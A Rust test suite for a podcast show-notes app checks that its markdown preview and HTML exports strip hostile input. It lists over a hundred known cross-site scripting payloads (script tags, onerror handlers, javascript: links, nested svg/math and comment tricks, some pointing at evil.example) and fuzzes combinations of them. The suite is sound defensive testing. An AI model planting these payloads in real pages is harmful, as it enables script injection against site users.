//! Notes are hostile input: nothing in them may run, load or imitate anything. What comes out of
//! the preview and the HTML export is read again by a browser's parser and looked through.

use std::collections::HashSet;

use chrono::NaiveDate;
use linernotes_core::document::Parts;
use linernotes_core::export::{self, export};
use linernotes_core::markdown;
use linernotes_core::preview::{Options, Page, PageGuest, PageLink, Preview, render};
use linernotes_core::view::ExportTarget;
use proptest::prelude::*;
use scraper::{Html, Node};

/// Where the resolver says images are.
const IMAGES: &str = "linernotes-image://localhost/";

fn images(path: &str) -> Option<String> {
    (!path.contains("missing")).then(|| format!("{IMAGES}{}", path.len()))
}

fn page(hostile: &str) -> Page {
    Page {
        title: hostile.to_owned(),
        number: Some(hostile.to_owned()),
        date: NaiveDate::from_ymd_opt(2026, 6, 1),
        guests: vec![PageGuest {
            name: hostile.to_owned(),
            bio: hostile.to_owned(),
            links: vec![
                PageLink { label: hostile.to_owned(), url: hostile.to_owned() },
                PageLink { label: "x".to_owned(), url: format!("https://a.example/{hostile}") },
                PageLink { label: "x".to_owned(), url: "javascript:alert(1)".to_owned() },
            ],
            avatar: Some(format!("{IMAGES}a\"b.jpg")),
        }],
    }
}

/// The exports that are HTML.
const EXPORTS: [ExportTarget; 3] = [ExportTarget::Html, ExportTarget::Apple, ExportTarget::Spotify];

/// All HTML that is made of hostile notes: the preview as a whole and block by block, and the
/// exports, with what it would be a part of.
fn outputs(notes: &str) -> Vec<String> {
    let body = Parts::of(notes).body;
    let options = Options { smart_punctuation: true, images: &images };
    let mut outputs = vec![render(notes, body.clone(), None, &page(notes), &options)];
    let patch = Preview::default().update(notes, body.clone(), None, &Page::default(), &options);
    outputs.extend(patch.insert.into_iter().map(|block| block.html));
    let title = markdown::title_heading(notes, body).map(|title| title.range);
    let options = export::Options {
        smart_punctuation: true,
        images: &images,
        title_heading: title.as_ref(),
        ..export::Options::default()
    };
    for target in EXPORTS {
        let made = export(target, notes, &page(notes), false, &options).unwrap_or_default();
        // Podcast apps give links their own `rel`: theirs have an address and nothing else.
        let rel = "<a rel=\"noopener noreferrer nofollow\" href=";
        let small = target != ExportTarget::Html;
        outputs.push(if small { made.text.replace("<a href=", rel) } else { made.text });
    }
    outputs
}

/// What must not be in the notes' HTML, if anything.
fn harm(html: &str) -> Option<String> {
    // As the window does it: into an element of a page.
    let document = Html::parse_document(&format!("<!DOCTYPE html><body><main>{html}</main>"));
    if document.select(&scraper::Selector::parse("body > main").ok()?).count() != 1 {
        return Some("another <main>".to_owned());
    }
    let allowed: HashSet<&str> = [
        "a",
        "abbr",
        "article",
        "aside",
        "b",
        "bdi",
        "bdo",
        "blockquote",
        "br",
        "caption",
        "cite",
        "code",
        "col",
        "colgroup",
        "data",
        "dd",
        "del",
        "details",
        "dfn",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "header",
        "hgroup",
        "hr",
        "i",
        "img",
        "ins",
        "kbd",
        "li",
        "mark",
        "ol",
        "p",
        "pre",
        "q",
        "rp",
        "rt",
        "ruby",
        "s",
        "samp",
        "section",
        "small",
        "span",
        "strong",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "time",
        "tr",
        "u",
        "ul",
        "var",
        "wbr",
    ]
    .into();
    let page: HashSet<&str> = ["html", "head", "body", "main"].into();
    let attributes: HashSet<&str> = [
        "alt",
        "align",
        "aria-label",
        "char",
        "charoff",
        "class",
        "colspan",
        "data-line",
        "datetime",
        "dir",
        "headers",
        "height",
        "href",
        "hreflang",
        "id",
        "lang",
        "open",
        "rel",
        "role",
        "rowspan",
        "scope",
        "size",
        "span",
        "src",
        "start",
        "summary",
        "title",
        "width",
    ]
    .into();
    let mut mains = 0;
    for node in document.tree.nodes() {
        let element = match node.value() {
            Node::Element(element) => element,
            Node::Text(_) | Node::Document | Node::Fragment | Node::Doctype(_) => continue,
            other => return Some(format!("{other:?}")),
        };
        let name = element.name();
        if page.contains(name) {
            mains += usize::from(name == "main");
            if element.attrs().count() > 0 {
                return Some(format!("attributes on <{name}>"));
            }
            continue;
        }
        if !allowed.contains(name) || element.name.ns != *"http://www.w3.org/1999/xhtml" {
            return Some(format!("<{name}>"));
        }
        // All of it is inside of <main>: nothing broke out.
        if !node.ancestors().any(|up| up.value().as_element().is_some_and(|up| up.name() == "main"))
        {
            return Some(format!("<{name}> outside"));
        }
        for (attribute, value) in element.attrs() {
            if !attributes.contains(attribute) {
                return Some(format!("{attribute}={value:?} on <{name}>"));
            }
            let url = url::Url::parse(value).ok();
            let scheme = url.as_ref().map(|url| url.scheme());
            let bad = match attribute {
                "href" => {
                    name != "a"
                        || !matches!(scheme, None | Some("http" | "https" | "mailto"))
                        || value.trim_start().starts_with("//")
                }
                "src" => {
                    name != "img"
                        || !matches!(scheme, None | Some("http" | "https"))
                            && !value.starts_with(IMAGES)
                }
                "data-line" => value.parse::<u32>().is_err(),
                _ => false,
            };
            if bad {
                return Some(format!("{attribute}={value:?} on <{name}>"));
            }
        }
        if name == "a" && element.attr("href").is_some() {
            let rel: HashSet<&str> = element.attr("rel").unwrap_or_default().split(' ').collect();
            if !["noopener", "noreferrer", "nofollow"].iter().all(|word| rel.contains(word)) {
                return Some("a link without rel".to_owned());
            }
        }
    }
    (mains != 1).then(|| format!("{mains} <main>"))
}

/// In the preview, ids of the notes have a prefix, and images are the show's or the web's.
fn harm_in_preview(html: &str) -> Option<String> {
    let fragment = Html::parse_fragment(html);
    for node in fragment.tree.nodes() {
        let Some(element) = node.value().as_element() else { continue };
        if let Some(id) = element.attr("id").filter(|id| !id.starts_with("note-")) {
            return Some(format!("id={id:?}"));
        }
        if let Some(source) = element.attr("src") {
            let source = source.to_ascii_lowercase();
            if !["http://", "https://", "//", IMAGES].iter().any(|start| source.starts_with(start))
            {
                return Some(format!("src={source:?}"));
            }
        }
        if let Some(anchor) = element.attr("href").and_then(|href| href.strip_prefix('#'))
            && !anchor.is_empty()
            && !anchor.starts_with("note-")
        {
            return Some(format!("#{anchor}"));
        }
    }
    None
}

fn check(notes: &str) -> Result<(), String> {
    let outputs = outputs(notes);
    let shown = outputs.len() - EXPORTS.len();
    for (number, html) in outputs.iter().enumerate() {
        if let Some(harm) = harm(html) {
            return Err(format!("{harm}\nnotes: {notes}\nhtml: {html}"));
        }
        if number < shown
            && let Some(harm) = harm_in_preview(html)
        {
            return Err(format!("{harm}\nnotes: {notes}\nhtml: {html}"));
        }
        // Written twice, it says the same: nothing in it waits for a second parser.
        let again = Html::parse_fragment(html).html();
        if Html::parse_fragment(&again).html() != again {
            return Err(format!("not stable\nnotes: {notes}\nhtml: {html}"));
        }
    }
    Ok(())
}

/// Known ways in. Alone, in a sentence, in a list and in front of a block they must all fail.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\u{a}=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=\"x\" alt=\"`><script>alert(1)</script>`\">",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<img src=\"linernotes-image://localhost/etc/passwd\">",
    "<img src=\"file:///etc/passwd\">",
    "<img srcset=\"https://evil.example/x 1x\" sizes=1>",
    "<picture><source srcset=//evil.example/x></picture>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript&colon;alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"tauri://localhost\">x</a> <a href=\"ipc://localhost/x\">x</a>",
    "<a href=\"//evil.example\">x</a> <a href=\"\\\\\\\\evil.example\">x</a> <a href=\" //evil.example\">x</a>",
    "<a href=x target=_top onclick=alert(1) style=position:fixed>x</a>",
    "<a href=x ping=https://evil.example download>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](java\\script:alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](vbscript:x) [y](data:text/html,x) [z](file:///etc/passwd)",
    "[x](https://a.example\"onmouseover=\"alert(1))",
    "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](x)",
    "![x](x\"onerror=\"alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)> <data:text/html,x> <tauri://x>",
    "javascript://www.a.example/%0aalert(1) www.a.example\"onclick=alert(1)",
    "https://a.example/\"onmouseover=alert(1)",
    "https://a.example/<script>alert(1)</script>",
    "```\"onclick=\"alert(1)\nx\n```",
    "``` \"><script>alert(1)</script>\nx\n```",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<frameset><frame src=x></frameset>",
    "<object data=x></object><embed src=x><applet code=x>",
    "<form action=//evil.example><input name=x><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)> <select autofocus onfocus=alert(1)><option>x",
    "<textarea autofocus onfocus=alert(1)></textarea> <keygen autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video> <track src=x>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee> <body onload=alert(1)> <html onclick=alert(1)>",
    "<svg onload=alert(1)> <svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src='#' onerror='alert(1)'>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=\"alert(1)\"></style></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><slot></slot></template>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "<selectedcontent><img src=x onerror=alert(1)></selectedcontent>",
    "<table><td><a id=x><table><tr><form><script>alert(1)</script>",
    "<a><table><a href=javascript:alert(1)>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml <img src=x onerror=alert(1)>?>",
    "<!DOCTYPE x [<!ENTITY y \"<script>alert(1)</script>\">]>",
    "<div id=location name=cookie class=\"task\">x</div> <img name=getElementById>",
    "<a id=defaultView></a><a id=defaultView name=x></a>",
    "<p id=\"note-a b\" data-line=\"-1\" data-x=1 is=x slot=x itemscope>x</p>",
    "<p data-line=9999999999999999999999>x</p>",
    "<p class=\"editor toolbar guest\">x</p>",
    "</main></body></html><h1>out</h1>",
    "</div></div></div><div>open",
    "<main>x</main> <body class=x> <html lang=x>",
    "<x-element onclick=alert(1)>x</x-element>",
    "<dialog open>x</dialog> <portal src=x></portal>",
    "<img src=https://a.example/x.png usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    "{% asset_img x.png \"a\" onerror=alert(1) %}",
    "{% asset_img \"><script>alert(1)</script>.png \"a\" %}",
    "{% asset_img javascript:alert(1).png %} {{ \"<script>alert(1)</script>\" }}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "# <img src=x onerror=alert(1)> \"id='x'",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [x] <input type=image src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "`<script>alert(1)</script>` \\<script>alert(1)\\</script>",
    "<script>`</script><img src=x onerror=alert(1)>`",
    "<a title=\"`\" href=\"`<script>alert(1)</script>\">",
    "\u{0}<script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript> <ıframe> ＜script＞alert(1)＜/script＞",
];

#[test]
fn known_vectors_do_nothing() {
    let mut failures = Vec::new();
    for vector in VECTORS {
        for notes in [
            (*vector).to_owned(),
            format!("A sentence with {vector} in it.\n\nAnother.\n"),
            format!("- {vector}\n\n> {vector}\n\n# {vector}\n\n{vector}\n\n**after**\n"),
            format!(
                "---\ntitle: x\n---\n<div>\n\n{vector}\n\n</div>\n\n| a |\n|---|\n| {vector} |\n"
            ),
        ] {
            failures.extend(check(&notes).err());
        }
    }
    assert!(failures.is_empty(), "{} got through:\n{}", failures.len(), failures.join("\n\n"));
}

#[test]
fn a_block_left_open_does_not_reach_into_the_next() {
    let notes = "<div><table><b>\n\nplain\n\n</div>\n\n<!--\n\nhidden\n\n-->\n\nlast\n";
    let options = Options { smart_punctuation: false, images: &images };
    let html = render(notes, 0..notes.len(), None, &Page::default(), &options);
    assert!(html.contains("\n<p data-line=\"0\">plain</p>\n"), "{html}");
    assert!(html.ends_with("\n<p data-line=\"0\">last</p>\n"), "{html}");
    assert!(!html.contains("hidden"), "{html}");
}

#[test]
fn what_is_harmless_stays() {
    let notes = "<details open><summary>More</summary>Text</details>\n\n<kbd>Ctrl</kbd> \
                 <sub>2</sub> <abbr title=\"x\">y</abbr> <mark>m</mark>\n\n![a](b.png \"t\") \
                 ![gone](x/missing.png) <img src=\"c.png\" width=\"3\"> \
                 ![web](https://a.example/d.png)\n\n# Für \"uns\"\n\n[go](#für-uns) [x](/y)\n";
    let options = Options { smart_punctuation: true, images: &images };
    let html = render(notes, 0..notes.len(), None, &Page::default(), &options);
    for wanted in [
        "<details open=\"\"><summary>More</summary>Text</details>",
        "<kbd>Ctrl</kbd> <sub>2</sub> <abbr title=\"x\">y</abbr> <mark>m</mark>",
        "<img src=\"linernotes-image://localhost/5\" alt=\"a\" title=\"t\">",
        "<span class=\"missing-image\">gone (image not found: missing.png)</span>",
        "<img src=\"linernotes-image://localhost/5\" alt=\"\" width=\"3\">",
        "<img src=\"https://a.example/d.png\" alt=\"web\">",
        " id=\"note-für-uns\">Für “uns”</h1>",
        "<a href=\"#note-f%C3%BCr-uns\"",
        "<a href=\"/y\"",
    ] {
        assert!(html.contains(wanted), "no {wanted} in\n{html}");
    }
}

/// Bits of HTML and markdown that together may make a way in.
fn hostile() -> impl Strategy<Value = String> {
    let bits = [
        "<script>",
        "</script>",
        "<img src=x onerror=alert(1)>",
        "<svg>",
        "</svg>",
        "<math>",
        "<mtext>",
        "<mglyph>",
        "<style>",
        "</style>",
        "<!--",
        "-->",
        "<table>",
        "<td>",
        "<a href=\"",
        "\">",
        "'",
        "`",
        "<noscript>",
        "</noscript>",
        "<template>",
        "<title>",
        "</title>",
        "<p title=\"",
        "<form>",
        "<select>",
        "<option>",
        "<textarea>",
        "javascript:alert(1)",
        "[",
        "](",
        ")",
        "\n\n",
        "\n",
        "- ",
        "> ",
        "# ",
        "<![CDATA[",
        "]]>",
        "<?",
        "?>",
        "&lt;",
        "&quot;",
        "&#x3c;",
        "\"",
        "=",
        "x",
        " ",
        "<",
        ">",
        "/",
        "</",
        "<b>",
        "</p>",
        "<div id=a>",
        "</div>",
        "{% asset_img ",
        " %}",
        "{{",
        "}}",
        "[^1]",
        "[^1]: ",
        "|",
        "https://a.example/",
        "www.a.example",
        "~~~",
        "```",
        "<desc>",
        "<foreignObject>",
        "<annotation-xml>",
        "<br/>",
        "<iframe>",
        "<xmp>",
        "<plaintext>",
        "\u{0}",
        "\\",
        "<details>",
        "<selectedcontent>",
    ];
    prop::collection::vec(prop::sample::select(bits.to_vec()), 0..24).prop_map(|bits| bits.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 100, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn nothing_gets_through(notes in hostile()) {
        prop_assert_eq!(check(&notes), Ok(()));
    }
}
